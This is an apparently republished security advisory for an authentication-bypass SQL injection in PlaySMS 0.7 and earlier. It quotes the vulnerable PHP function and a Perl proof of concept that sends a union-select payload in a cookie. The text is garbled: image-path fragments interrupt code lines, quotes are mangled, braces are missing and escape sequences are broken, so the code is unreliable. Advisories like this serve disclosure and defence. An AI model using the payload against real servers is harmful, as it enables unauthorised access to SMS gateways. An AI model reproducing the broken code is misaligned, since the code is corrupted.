‘PlaySMS SQL Injection via Cookie’


PlaySMS is ‘a full-featured SMS gateway application that features sending of single or broadcast SMSes, the ability to receive and forward SMSes, an SMS board, an SMS polling system, SMS customs for handling incoming SMSes and forwarding them to custom applications, and SMS commands for saving/retrieving information to/from a server and executing server-side shell scripts’.

An SQL Injection vulnerability in the product allows remote attackers to inject arbitrary SQL statements via the cookie mechanism used by the product.’


‘The information has been provided by Noam Rathaus.’


Vulnerable Systems:
 * PlaySMS version 0.7 and prior

Immune Systems:
 * PlaySMS version 0.7.1 or newer

Vulnerable code:
The vulnerability is located in the function valid():

function valid($var_ticket=”,$var_username=”)
    $ticket = $_COOKIE[vc1];
    $username = $_COOKIE[vc2];
    if ($var_ticket && $var_username)
        $ticket = $var_ticket;
        $username = $var_username;
    $db_query = ‘SELECT ticket FROM tblUser WHERE username=’$username”;
    $db_result = dba_query($db_query);
    $db_row = dba_fetch_array($db_result);
    if ($ticket && $db_row[ticket] && ($ticket==$db_row[ticket]))
        return 1;return 0;

If you look at the way the function works, the cookie information is received as is. This is true only if the ‘magic_quotes_gpc’ setting is set to ‘Off’ (NOTE: This is discouraged by the author of the program in the INSTALL file).

In the case where ‘Off’ is set the following Perl script will illustrate how it can access the fr_left.php script without having provided any username or password.The author of the program has addressed the vulnerability by including code that will filter out any incoming malicious code, whenever the magic_quotes_gpc is set to ‘Off’. In addition the author took care of those cases where Microsoft SQL Server is used as the backend and that normal filtering is not enough.

Side note:
Please note that addslashes will NOT work with Microsoft SQL. Since Microsoft SQL does not use he backslash character as an escape mechanism. Just double your quotes instead. Or use this:

function mssql_addslashes($data) {
   $data = str_replace(”’, ””, $data);
   return $data;

# PlaySMS version 0.7 and prior SQL InjectionPoC
# Written by Noam Rathaus of Beyond Security Ltd.

use IO::Socket;
use strict;

my $host = $ARGV[0];

my $remote =IO::Socket::INET->new ( Proto => ‘tcp’, PeerAddr => $host, PeerPort => ’80’ );

unless ($remote) { die ‘cannot connect to http daemon on $host’ }

print ‘connectedn’;


my $http = ‘GET /~playsms/fr_left.php HTTP/1.1r
Host: $host:80r
User-Agent: Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.7) Gecko/20040712
Accept-Language: en-us,en;q=0.5r
Accept-Encoding: gzip,deflater
Accept-Charset: ISO-8859-1,utf-8;q=0.7,*;q=0.7r
Keep-Alive: 300r
Cookie: vc1=ticket; vc2=’%20union%20select%20’ticket;
Content-Type: application/x-www-form-urlencodedr
Connection: closer


print ‘HTTP: [$http]n’;
print $remote $http;
print ‘Sentn’;

while (<$remote>)
print $_;
print ‘n’;close $remote;’

Categories: UNIX